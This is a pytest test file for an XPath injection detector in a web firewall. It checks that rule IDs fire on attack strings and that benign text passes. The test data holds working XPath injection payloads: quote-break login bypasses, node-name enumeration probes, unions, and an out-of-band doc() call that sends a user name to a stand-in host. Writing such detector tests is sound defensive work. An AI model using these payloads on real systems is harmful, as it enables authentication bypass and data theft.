"""XPath injection detector: quote-break booleans with XPath functions, unions and axes."""

from __future__ import annotations

import re

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import xpath
from hullguard.firewall.detectors.base import ScanContext

CTX = ScanContext()
_PREFILTER = re.compile(xpath.PREFILTER, re.IGNORECASE)


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("' or '1'='1", "HG-XPATH-001"),
        ("x' or name()='username' or 'x'='y", "HG-XPATH-001"),
        ("' and string-length(name(/*[1]))>0 and '1'='1", "HG-XPATH-001"),
        ("') or contains(name(), 'pass') or ('", "HG-XPATH-001"),
        ("']|//*|//*['", "HG-XPATH-002"),
        ("count(/child::node())", "HG-XPATH-002"),
        ("//user[name/text()='admin']", "HG-XPATH-002"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = xpath.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


@pytest.mark.parametrize("value", ["O'Reilly", "don't or won't", "https://example.com//a[1]", "a | b"])
def test_text_with_quotes_passes(value: str) -> None:
    assert xpath.scan(value, CTX) is None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(xpath, "xpath", ["'", "' or ", "//a[", "|//", "::", "count(/"])


@pytest.mark.parametrize(
    "payload",
    [
        "//user[position()=1]/name",  # a path from the root with a predicate, no quote or bar to gate on
        "//account[last()-1]/password",
        "//user/node()",
        "//*/text()",
        "* and doc('//198.51.100.7/share')",  # XPath 2.0: another document, a UNC share
        'doc(concat("http://oob.example/", //user[1]/name))',
    ],
)
def test_root_paths_node_tests_and_documents_are_reported_through_the_prefilter(payload: str) -> None:
    assert _PREFILTER.search(payload), payload
    found = xpath.scan(payload, CTX)
    assert found is not None and found.rule_id == "HG-XPATH-002", (payload, found)


@pytest.mark.parametrize(
    "value",
    ["//cdn.example.com/app.js", "https://example.com/a/text()", "https://example.com/p[1]", "see the doc (pdf)"],
)
def test_urls_and_prose_with_those_words_pass(value: str) -> None:
    assert xpath.scan(value, CTX) is None
